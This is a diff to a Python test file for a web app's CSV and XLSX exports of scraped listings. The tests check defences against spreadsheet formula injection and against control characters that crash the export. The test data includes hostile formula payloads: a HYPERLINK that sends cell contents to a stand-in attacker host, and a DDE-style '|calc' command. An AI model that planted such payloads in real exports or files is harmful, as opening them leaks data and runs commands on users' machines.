@@ -657,7 +657,9 @@ def test_csv_export_turns_no_scraped_text_into_a_formula(client: TestClient, hos
     hostile = next(r for r in rows if "康帅傅" in r[7] and r[7].startswith("'"))
     assert hostile[6] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'  # platform
     assert hostile[9] == "'=1+2& 199.00"  # the price, formatted with the scraped currency
-    assert hostile[4] == "'\t=1+1" and hostile[5].startswith("'=HYPERLINK")  # department, brand
+    assert hostile[4] == "'\\x09=1+1" and hostile[5].startswith(
+        "'=HYPERLINK"
+    )  # department, brand (tab shown)
     assert hostile[3] == "'|calc'!A0" and hostile[8] == "'-2+3" and hostile[11] == "'@SUM(1,1) 店"
     bad = [(i, field) for r in rows for i, field in enumerate(r) if field.startswith(FORMULA_STARTS)]
     assert not bad
@@ -673,6 +675,25 @@ def test_xlsx_export_has_no_formula_cell(client: TestClient, hostile_export) -> 
     texts = [c.value for c in cells if isinstance(c.value, str)]
     assert "'=1+2& 199.00" in texts and '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in texts
     assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
+
+
+def test_xlsx_export_answers_with_control_characters_in_scraped_text(
+    client: TestClient, db: Database
+) -> None:
+    """One NUL in one scraped title once made the whole export a 500 for everyone (illegal in XML)."""
+    from openpyxl import load_workbook
+
+    with db.session() as s:
+        make_brand(s, "康师傅")
+        make_lead(s, title="康帅傅\x00方便面\x1b[2K\x0b", seller={"id": "n", "name": "店\x07"})
+    login(client, "审核员")
+    response = client.get("/export.xlsx?since=all")
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    texts = [c.value for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "康帅傅\\x00方便面\\x1b[2K\\x0b" in texts and "店\\x07" in texts
+    text = client.get("/export.csv?since=all").content.decode("utf-8")
+    assert "康帅傅\\x00方便面\\x1b[2K\\x0b" in text and "\x00" not in text
 
 
 def test_xlsx_export_has_chinese_headers(client: TestClient) -> None:
